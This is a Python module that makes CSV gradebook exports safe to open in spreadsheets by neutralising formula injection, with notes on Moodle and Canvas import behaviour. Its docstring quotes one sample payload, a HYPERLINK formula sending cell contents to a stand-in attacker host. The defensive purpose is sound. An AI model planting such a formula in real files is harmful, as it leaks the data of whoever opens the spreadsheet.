"""CSV files that are safe to open in a spreadsheet: formula injection neutralised (OWASP "CSV
Injection", CWE-1236).

Trainee names and e-mails come from a roster anyone could have typed into; a cell such as
``=HYPERLINK("http://evil.example/?"&A1)`` would run as a formula when a tutor opens the export in
Excel or LibreOffice. Every text cell (and header) starting with a formula trigger gets a leading
single quote, which spreadsheets read as "this is text". Numbers stay numbers, negative ones too.
"""

from __future__ import annotations

import csv
import io
import math
import numbers
import os
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

# OWASP's list (= + - @ tab CR) plus NUL, which OWASP ASVS 1.2.10 adds.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
QUOTE = "'"

# Encoding and line ends, checked against both importers' sources:
# - UTF-8 with a BOM: Excel needs the BOM to read non-ASCII names (Zoë, Łukasz) as UTF-8.
#   Moodle's csv_import_reader::load_csv_content strips it (core_text::trim_utf8_bom) before
#   parsing; Canvas's GradebookImporter only asks that the first header cell *include* "Student"
#   (row[0].include?), so a BOM before it does no harm, and Canvas's own gradebook export can
#   carry one (a user setting) and must import back.
# - \r\n: RFC 4180's line end and Excel's own. Moodle rewrites \r\n to \n before parsing and
#   Canvas parses with Ruby's CSV, which detects the line end; both accept either.
ENCODING = "utf-8-sig"
LINE_END = "\r\n"


def neutralise(value: Any) -> Any:
    """``value`` as it should go into a CSV cell.

    Numbers (int, float, numpy numbers, Decimal; not bool) are returned unchanged so they are
    written as numbers; missing values (None, NaN, pd.NA) become ``""`` (a blank cell, which
    both LMSs read as "no grade"); anything else becomes text, prefixed with ``'`` if it starts
    with ``=``, ``+``, ``-``, ``@``, tab, carriage return or NUL.
    """
    kind = type(value)  # the commonest cells first, by exact type: the same answers, sooner
    if kind is str:
        return QUOTE + value if value.startswith(TRIGGERS) else value
    if kind is int:
        return value
    if kind is float:
        return "" if math.isnan(value) else value
    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, (numbers.Real, Decimal)) and not isinstance(value, bool):
        return "" if math.isnan(value) else value
    text = str(value)
    return QUOTE + text if text.startswith(TRIGGERS) else text


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` (header, then rows; no index) as CSV text with every cell neutralised and
    ``\\r\\n`` line ends; encode it with :data:`ENCODING` (as :func:`csv_bytes` does)."""
    out = io.StringIO()
    # Every text cell quoted: a spreadsheet that splits on ";" (Excel and LibreOffice in many
    # European locales) keeps "x;=1+1" one cell, so no formula hides after a separator.
    writer = csv.writer(out, lineterminator=LINE_END, quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([neutralise(str(name)) for name in frame.columns])
    writer.writerows(zip(*(_cells(frame.iloc[:, k]) for k in range(frame.shape[1])), strict=True))
    return out.getvalue()


def _cells(column: pd.Series) -> list[Any]:
    """:func:`neutralise` of each value of ``column``, a column at a time: the same cells as value by
    value, without a call per number (a large cohort's tables have millions of cells)."""
    values = column.to_numpy(dtype=object).tolist() if column.dtype == "str" else column.tolist()
    kind = column.dtype.kind if isinstance(column.dtype, np.dtype) else ""
    if kind in "iu" and kind:
        return values  # Python ints: numbers as they are
    if kind == "f":
        return ["" if v != v else v for v in values]  # NaN (never equal to itself): blank
    return [neutralise(v) for v in values]


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """The bytes :func:`write_csv` writes for ``frame`` (UTF-8 with a BOM): what a browser downloads."""
    return csv_text(frame).encode(ENCODING)


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write ``frame`` as :func:`csv_bytes` to ``path``.

    UTF-8 with a BOM and ``\\r\\n`` line ends (see ``ENCODING``). The file is written beside
    ``path`` and moved into place, so a failure never leaves half a gradebook behind. Parent
    folders are created. Returns ``path``.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    partial = path.with_name(f".{path.name}.partial")
    try:
        partial.write_bytes(csv_bytes(frame))
        os.replace(partial, path)
    finally:
        partial.unlink(missing_ok=True)
    return path
